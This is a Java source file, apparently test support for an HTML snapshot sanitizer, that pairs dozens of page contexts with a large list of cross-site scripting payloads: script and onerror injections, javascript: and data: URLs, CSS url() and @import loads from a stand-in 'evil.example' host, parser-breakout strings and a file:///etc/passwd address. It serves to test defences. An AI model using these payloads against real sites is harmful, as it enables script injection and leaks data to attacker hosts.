package keeplink.snapshot;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/// Every place of a page something hostile may stand in, and everything hostile that may stand there.
///
/// Each place is tried with each, also where the two make no sense together: what makes sense to a browser is what
/// these are about.
final class HostileTable {
    private static final String HERE = "¤";
    private static final String IMAGE = "<img src=x onerror=alert(1)>";

    private static final String ELEMENTS = """
        ¤
        <p>¤</p>
        <table>¤</table>
        <table><tr>¤
        <table><tr><td>¤
        <table><caption>¤
        <table><colgroup>¤
        <select>¤</select>
        <select><option>¤
        <select><optgroup><svg>¤
        <ul><li><dl><dt>¤
        <b><a><i>¤
        <button><form>¤
        <svg>¤</svg>
        <svg><g>¤
        <svg></p>¤
        <svg><foreignObject>¤
        <svg><desc>¤
        <svg><title>¤
        <svg><a>¤
        <svg><style>¤</style></svg>
        <svg><script>¤</script></svg>
        <svg><text><![CDATA[¤]]></text></svg>
        <svg><desc><svg><title>¤
        <svg><foreignObject><math><mi><svg>¤
        <math>¤</math>
        <math><mi>¤
        <math><mtext>¤
        <math><mtext><mglyph>¤
        <math><mtext><malignmark>¤
        <math><mtext><table><mglyph><style>¤
        <math><mglyph><svg><mtext><textarea>¤
        <math><annotation-xml>¤
        <math><annotation-xml encoding=text/html>¤
        <math><annotation-xml encoding=application/xhtml+xml><svg>¤
        <form><math><mtext></form><form><mglyph><style></math>¤
        <style>¤</style>
        <script>¤</script>
        <noscript>¤</noscript>
        <head><noscript>¤
        <noembed>¤</noembed>
        <noframes>¤</noframes>
        <iframe>¤</iframe>
        <xmp>¤</xmp>
        <textarea>¤</textarea>
        <title>¤</title>
        <plaintext>¤
        <listing>¤
        <object>¤</object>
        <video>¤</video>
        <canvas>¤</canvas>
        <template>¤</template>
        <div><template shadowrootmode=open>¤</template></div>
        <template><div><template shadowrootmode=closed>¤
        <!--¤-->
        <!-->¤-->
        <!--¤--!>
        <!--[if IE]>¤<![endif]-->
        <!¤>
        <?¤?>
        </¤>
        <![CDATA[¤]]>
        <frameset>¤\
        """;

    private static final String ATTRIBUTES = """
        <p title="¤">x
        <p title='¤'>x
        <p title=¤>x
        <p title=`¤`>x
        <p ¤>x
        <p x="y"¤>x
        <p/¤/>x
        <p title="a" title="¤">x
        <img alt="¤" src="data:,">
        <a name="¤" id='¤'>x</a>
        <x-y data-z="¤" q="¤">x</x-y>
        <svg><text class="¤" ¤>x
        <math><mi mathcolor="¤" ¤>x
        <html ¤><body ¤>
        <input value="¤" placeholder='¤' ¤>
        <¤ x>y
        <p¤>x\
        """;

    private static final String ADDRESSES = """
        <a href="¤">x</a>
        <area href='¤'>
        <a href=https://ok.example ping="¤" attributionsrc="¤" target="¤">x</a>
        <img src="¤">
        <img srcset="¤ 1x, ¤ 2x" data-src="¤">
        <picture><source srcset="¤"><img></picture>
        <link rel=stylesheet href="¤">
        <link rel="icon" href="¤">
        <link rel="preload prefetch manifest" as=image href="¤" imagesrcset="¤">
        <iframe src="¤"></iframe>
        <iframe srcdoc="¤"></iframe>
        <object data="¤" type=text/html></object>
        <embed src="¤">
        <applet code="¤" archive="¤"></applet>
        <portal src="¤"></portal>
        <form action="¤"><input formaction="¤" type=image src="¤"><button formaction="¤">x
        <video src="¤" poster="¤"><source src="¤"><track src="¤" default></video>
        <audio src="¤" autoplay></audio>
        <table background="¤"><td background='¤'>x
        <body background="¤">
        <html manifest="¤">
        <base href="¤"><a href=x>y</a><img src=z>
        <meta http-equiv=refresh content="0;url=¤">
        <meta http-equiv=" ReFresh" content="0¤">
        <frameset><frame src="¤"></frameset>
        <svg><use href="¤"/><image href="¤"/><feImage xlink:href="¤"/></svg>
        <svg><a xlink:href="¤"><text>x</text></a></svg>
        <svg><a><animate attributeName=href to="¤" values="¤"/><set attributeName="¤" to="¤"/></a></svg>
        <math><mi href="¤" xlink:href="¤">x</mi><maction actiontype="¤">x\
        """;

    private static final String STYLES = """
        <p style="¤">x
        <p style="background:url(¤)">x
        <p style='background:url("¤")'>x
        <style>¤{a:b}</style>
        <style>a{background:url(¤)}</style>
        <style>a{background:url('¤')}</style>
        <style>a{background:image-set('¤' 1x)}</style>
        <style>a{content:"¤"}</style>
        <style>/*¤*/</style>
        <style>body{--x:¤;background:var(--x)}</style>
        <style>@import ¤;</style>
        <style>@import '¤' ¤;</style>
        <style>@font-face{font-family:x;src:url(¤)}body{font-family:x}</style>x
        <svg><rect fill="¤" mask="url(¤)" filter="url('¤')"/></svg>\
        """;

    private static final String MARKUP = """
        <script>alert(1)</script>
        <script src=//evil.example/s></script>
        <ScRiPt/x >alert(1)</sCrIpT\t>
        <svg><script>alert&#40;1)</script>
        <img src=//evil.example/i>
        <img/src='x'/onerror='alert(1)'>
        <img src=`x`onerror=alert(1)>
        <img src=x\u000conerror\u000c=alert(1)>
        <svg/onload=alert(1)//
        <body onload=alert(1) onload=alert(2)>
        <iframe src=javascript:alert(1)>
        <iframe srcdoc='<script>parent.alert(1)</script>' onload=alert(1)>
        <iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>
        <details open ontoggle=alert(1)>
        <input autofocus onfocus=alert(1)>
        <video src=//evil.example/v autoplay onerror=alert(1)>
        <object data=//evil.example/o></object><embed src=//evil.example/e>
        <link rel=stylesheet href=//evil.example/c>
        <link rel=preload as=image href=//evil.example/l>
        <meta http-equiv=refresh content=0;//evil.example/>
        <base href=//evil.example/ target=_blank>
        <form action=//evil.example/><input type=submit autofocus onfocus=alert(1)>
        <style>@import '//evil.example/s'</style>
        <style>*{background:url(//evil.example/b)}</style>
        <p style=background:url(//evil.example/p)>x
        <math><mi xlink:href=javascript:alert(1)>x
        <svg><use href=//evil.example/u#x><image href=//evil.example/i>
        <svg><a href=javascript:alert(1)><text>x
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><set attributeName=onmouseover to=alert(1)>
        <svg><style>*{background:url(//evil.example/s)}
        <noscript><p title='</noscript><img src=x onerror=alert(1)>'>
        <template><script>alert(1)</script></template>
        <div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
        <x onclick=alert(1) style=background:url(//evil.example/x)>
        <table background=//evil.example/t><tr><td>
        <plaintext><script>alert(1)</script>
        <a id="</style><img src=x onerror=alert(1)>">
        <a id="</title></textarea></xmp><img src=x onerror=alert(1)>">
        <a id="--><img src=x onerror=alert(1)>">
        &lt;img src=x onerror=alert(1)&gt;\
        """;

    private static final String ADDRESS = """
        javascript:alert(1)
        JaVaScRiPt:alert(1)
        \u0001javascript:alert(1)
        java\tscript:alert(1)
        &#106;avascript&colon;alert(1)
        &Tab;java&NewLine;script:alert(1)
        javascript&#58alert(1)
        vbscript:alert(1)
        data:text/html,<script>alert(1)</script>
        data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
        data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>
        data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>
        data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>
        data:text/css,*{background:url(//evil.example/d)}
        blob:https://evil.example/1
        view-source:javascript:alert(1)
        file:///etc/passwd
        //evil.example/a
        \\\\evil.example\\a
        https:evil.example/a
        ftp://evil.example/a\
        """;

    private static final String STYLE = """
        x);background:url(//evil.example/c
        background:\\75rl(//evil.example/c)
        background:image-set('//evil.example/c' 1x)
        x:expression(alert(1));behavior:url(//evil.example/h);-moz-binding:url(//evil.example/b#x)
        */ a{background:url(//evil.example/c)} /*
        }*{background:url(//evil.example/c)}a{
        '}*{background:url(//evil.example/c)}a{b:'
        \\"}*{background:url(//evil.example/c)}a{b:"
        @import '//evil.example/c';
        url(//evil.example/c) layer(a) supports(b:url(//evil.example/d))
        --x:'//evil.example/v';background:image-set(var(--x) 1x)\
        """;

    private static final List<String> QUOTES = List.of(
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "`><script>alert(1)</script>",
            "\" onfocus=alert(1) autofocus tabindex=0 x=\"",
            "' onfocus=alert(1) autofocus tabindex=0 x='",
            "x onfocus=alert(1) autofocus tabindex=0 ",
            "&quot;><script>alert(1)</script>",
            "<scr\0ipt>alert(1)</scr\0ipt>",
            "<img src=x on\0error=alert(1)>",
            "<img src=x \0onerror=alert(1)>",
            "<img src=x\u00a0onerror=alert(1)\u2028>");

    /// What may end where something is, without and with an element of a drawing before it.
    private static final List<String> ENDS = List.of(
            "</style>",
            "</script>",
            "</title>",
            "</textarea>",
            "</noscript>",
            "</noembed>",
            "</noframes>",
            "</iframe>",
            "</xmp>",
            "</template>",
            "</svg>",
            "</math>",
            "</select>",
            "</table>",
            "</desc>",
            "</p>",
            "</br>",
            "-->",
            "--!>",
            "]]>",
            "*/",
            "?>");

    /// The places, by what a page means to have there.
    static final List<String> PLACES = Stream.of(ELEMENTS, ATTRIBUTES, ADDRESSES, STYLES)
            .flatMap(String::lines)
            .toList();

    /// What is put there.
    static final List<String> ATTACKS = attacks();

    private HostileTable() {}

    private static List<String> attacks() {
        List<String> attacks = new ArrayList<>(
                Stream.of(MARKUP, ADDRESS, STYLE).flatMap(String::lines).toList());
        attacks.addAll(QUOTES);
        ENDS.forEach(end -> attacks.add(end + IMAGE));
        return List.copyOf(attacks);
    }

    /// The pages that have each attack in a place.
    static Stream<String> pages(String place) {
        return ATTACKS.stream().map(attack -> place.replace(HERE, attack));
    }
}
